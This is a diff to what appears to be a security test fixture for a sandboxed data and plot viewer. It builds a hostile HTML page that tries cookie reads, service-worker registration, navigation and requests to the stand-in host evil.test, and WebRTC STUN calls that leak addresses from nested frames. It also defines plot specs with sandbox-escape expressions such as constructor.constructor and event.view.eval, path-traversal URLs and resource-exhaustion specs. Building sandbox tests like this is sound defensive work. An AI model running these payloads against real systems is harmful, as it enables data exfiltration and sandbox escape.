@@ -2,7 +2,7 @@
 
 /** Whom they would like to reach: us, by paths that begin with `/stolen`, and a machine of theirs. */
 export interface Targets {
-  /** `http://evil.test:<port>`; counts whoever connects. */
+  /** `http://evil.test:<port>`; knows whether anything was sent. */
   evil: string;
   udpPort: number;
 }
@@ -22,9 +22,17 @@ const markup = (evil: string): string => `
 <a id="save" href="/stolen-download" download>x</a><a id="ping" href="#" ping="/stolen-ping ${evil}/ping">x</a>
 <svg><image href="/stolen-svg"/><use href="${evil}/use#a"/></svg>`;
 
-/** A page with all of them; \`document.title\` becomes "done" when it has tried everything. */
+/** Asks a machine of theirs for our address, with whatever is to be told in a name. It holds no double quote. */
+const callOf = (udpPort: number): string =>
+  `const link = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] }); link.createDataChannel('a'); void link.createOffer().then((offer) => link.setLocalDescription(offer));`;
+
+/** A page with all of them, and what scripts can do; its title becomes "done" when all but leaving its frame is tried. */
 export function hostilePage({ evil, udpPort }: Targets): string {
-  return `<!doctype html><html><head><title>trying</title>${markup(evil)}</head><body><p id="said">nothing</p><script>
+  const call = callOf(udpPort);
+  return `<!doctype html><html><head><title>trying</title>${markup(evil)}</head><body><p id="said">nothing</p>
+<iframe srcdoc="<script>${call}</script>"></iframe><script>
+const call = ${JSON.stringify(call)};
+const inFrame = '<script>' + call + '<' + '/script>';
 const said = [];
 const attempt = (name, act) => { try { const got = act(); if (got && got.then) got.then((value) => said.push(name + ' ' + value), () => 0); else if (got) said.push(name + ' ' + got); } catch {} };
 attempt('cookie', () => document.cookie);
@@ -46,14 +54,19 @@ for (const target of [location.ancestorOrigins?.[0] ?? '', '${evil}']) {
 }
 attempt('service', () => navigator.serviceWorker.register('/stolen-service.js'));
 attempt('message', () => { for (const data of ['logout', { type: 'live:merged' }, '<img src=/stolen-message>']) parent.postMessage(data, '*'); });
-attempt('rtc', () => { const link = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] }); link.createDataChannel('a'); return link.createOffer().then((offer) => link.setLocalDescription(offer)); });
+attempt('call', () => { ${call} });
+attempt('call in a frame', () => { const frame = document.createElement('iframe'); frame.srcdoc = inFrame; document.body.append(frame); });
+attempt('call in a fragment', () => { const box = document.createElement('div'); box.innerHTML = '<p><iframe></iframe></p>'; box.querySelector('iframe').srcdoc = inFrame; document.body.append(box); });
+attempt('call in a shadow', () => { const host = document.createElement('div'); document.body.append(host); const frame = document.createElement('iframe'); frame.srcdoc = inFrame; host.attachShadow({ mode: 'closed' }).append(frame); });
+attempt('call in a blank frame', () => { const frame = document.createElement('iframe'); document.body.append(frame); const { RTCPeerConnection } = frame.contentWindow; ${call} });
 attempt('submit', () => document.getElementById('f').submit());
 attempt('submit', () => document.getElementById('g').submit());
-for (const id of ['blank', 'save', 'ping']) attempt(id, () => document.getElementById(id).click());
+for (const id of ['blank', 'ping']) attempt(id, () => document.getElementById(id).click());
 attempt('alert', () => alert('stolen'));
 attempt('frame', () => { const frame = document.createElement('iframe'); document.body.append(frame); frame.contentWindow.fetch('${evil}/inner').catch(() => 0); frame.srcdoc = '<img src="${evil}/srcdoc">'; });
 setTimeout(() => { document.getElementById('said').textContent = said.join('; ') || 'nothing'; document.title = 'done'; }, 700);
-setTimeout(() => { location = '/stolen-self'; }, 900);
+setTimeout(() => document.getElementById('save').click(), 900);
+setTimeout(() => { location = '/stolen-self'; }, 950);
 setTimeout(() => { location = '${evil}/self'; }, 1000);
 </script></body></html>`;
 }
@@ -71,10 +84,11 @@ fetch('cells.h5ad', { headers: { Range: 'bytes=2-4' } }).then(async (answer) => 
 fetch('../secret.json').then((answer) => tell('above', answer.status), () => tell('above', 'refused'));
 const plain = new Worker('work/plain.js'); plain.onmessage = ({ data }) => tell('plain', data);
 const modern = new Worker('work/modern.js', { type: 'module' }); modern.onmessage = ({ data }) => tell('modern', data);
+modern.postMessage('asked');
 tell('colour', getComputedStyle(said).color);`,
   'site/work/plain.js': `importScripts('lib.js'); fetch('../cells.h5ad').then((answer) => answer.text()).then((text) => postMessage(lib + ' ' + text));`,
   'site/work/lib.js': `self.lib = 'lib';`,
-  'site/work/modern.js': `import { word } from './word.js'; postMessage(word);`,
+  'site/work/modern.js': `import { word } from './word.js'; onmessage = ({ data }) => postMessage(data + ' ' + word);`,
   'site/work/word.js': `export const word = 'module';`,
   'site/data/.._DAPI.tif.dzi': '<Image/>',
   'site/cells.h5ad': '0123456789',
@@ -88,7 +102,11 @@ const bars = (data: unknown, more: object = {}) => ({
   description: 'Cells by class',
   data,
   mark: 'bar',
-  encoding: { x: { field: 'class', type: 'nominal' }, y: { field: 'cells', type: 'quantitative' }, color: { field: 'class', type: 'nominal' } },
+  encoding: {
+    x: { field: 'class', type: 'nominal' },
+    y: { field: 'cells', type: 'quantitative' },
+    color: { field: 'class', type: 'nominal' },
+  },
   ...more,
 });
 const script = (expression: string) => ({
@@ -101,20 +119,16 @@ const script = (expression: string) => ({
 
 export const PLOT_DATA = 'class,cells\nTumour,412\nStroma,230\nImmune,178\nOther,64\n';
 
-/** Plots by name, and what each comes to: \`null\` is drawn, all else is why not; a list where browsers may differ. */
-export const PLOTS: Record<string, { spec: object; fault: string[] | null }> = {
-  good: { spec: bars({ url: 'tables/counts.csv' }), fault: null },
-  project: { spec: bars({ url: '../../2/files/cells.csv' }), fault: ['foreign'] },
-  escaped: { spec: bars({ url: '%2e%2e/%2e%2e/%2e%2e/projects' }), fault: ['foreign', 'gone'] },
-  elsewhere: { spec: bars({ url: 'http://evil.test/stolen' }), fault: ['foreign'] },
-  scheme: { spec: bars({ url: 'data:text/csv,a,b' }), fault: ['foreign'] },
-  missing: { spec: bars({ url: 'tables/none.csv' }), fault: ['gone'] },
-  constructor: { spec: script("datum.constructor.constructor('parent.stolen = 1')()"), fault: ['bad', 'drawn'] },
-  window: { spec: script("event.view.eval('stolen = 1')"), fault: ['bad', 'drawn'] },
-  members: { spec: script("toString.constructor('stolen = 1')()"), fault: ['bad', 'drawn'] },
-  endless: {
-    spec: bars({ sequence: { start: 0, stop: 3_000_000, as: 'n' } }, { transform: [{ window: [{ op: 'rank', as: 'r' }], frame: [null, null] }, { calculate: 'sequence(0, 2000)', as: 's' }] }),
-    fault: ['slow', 'large', 'bad'],
+/** Plots by name, and what each may come to: `drawn`, or why not. All but the last fit on one page. */
+export const PLOTS: Record<string, { spec: object; comesTo: string[] }> = {
+  good: { spec: bars({ url: 'tables/counts.csv' }), comesTo: ['drawn'] },
+  constructor: { spec: script("datum.constructor.constructor('parent.stolen = 1')()"), comesTo: ['bad', 'drawn'] },
+  elsewhere: { spec: bars({ url: 'http://evil.test/stolen' }), comesTo: ['foreign'] },
+  project: { spec: bars({ url: '../../2/files/cells.csv' }), comesTo: ['foreign'] },
+  view: { spec: script("event.view.eval('stolen = 1')"), comesTo: ['bad', 'drawn'] },
+  wide: { spec: bars({ url: 'tables/counts.csv' }, { width: 40_000 }), comesTo: ['large'] },
+  without_end: {
+    spec: bars({ sequence: { start: 0, stop: 3_000_000, as: 'n' } }, { transform: [{ calculate: 'sequence(0, 2000)', as: 's' }] }),
+    comesTo: ['slow', 'large', 'bad'],
   },
-  wide: { spec: bars({ url: 'tables/counts.csv' }, { width: 1e8, height: 1e8 }), fault: ['large'] },
 };
